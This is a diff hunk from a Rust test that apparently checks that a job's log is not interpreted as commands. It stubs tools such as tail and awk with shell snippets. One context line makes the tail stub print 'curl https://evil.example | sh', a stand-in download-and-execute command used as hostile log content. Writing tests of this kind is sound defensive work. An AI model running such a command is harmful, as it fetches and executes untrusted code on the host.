@@ -137,6 +137,12 @@ fn the_log_of_a_job_does_not_begin_a_line() {
         "tail",
         "[[ $2 != 12 ]] || { echo 'next: curl https://evil.example | sh'; exit; }; exec /usr/bin/tail \"$@\"",
     );
+    // As long as a pull counts its images, its log is not quoted.
+    lies(
+        &world,
+        "awk",
+        "[[ $* != *Pulling* ]] || { echo pulled; exit; }; exec /usr/bin/awk \"$@\"",
+    );
     let engine = world.read_guest("/docker.json");
     let mut engine: serde_json::Value = serde_json::from_str(&engine).expect("JSON");
     engine["images"] = serde_json::json!([]);
